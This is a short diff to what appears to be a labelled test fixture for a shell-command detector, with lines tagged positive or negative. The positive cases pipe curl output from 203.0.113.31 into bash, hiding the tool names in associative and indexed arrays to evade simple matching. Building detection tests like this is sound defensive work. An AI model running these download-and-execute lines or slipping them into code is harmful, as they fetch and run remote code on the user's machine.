@@ -147,3 +147,10 @@ trap "$(handler)" EXIT
 say() { printf '%s\n' "$1"; }
 msg=$(say "curl then sh")
 echo "$msg"
+#@ pos the downloader and the shell as an associative array's values
+declare -A tool=([fetch]=curl [run]=bash)
+"${tool[fetch]}" -fsSL http://203.0.113.31/b | "${tool[run]}"
+#@ pos the second element of an indexed array as the shell
+t=(curl bash); "${t[0]}" -s http://203.0.113.31/b | "${t[1]}"
+#@ neg an indexed array's second element is a pager
+t=(curl less); "${t[0]}" -s https://example.com/ | "${t[1]}"
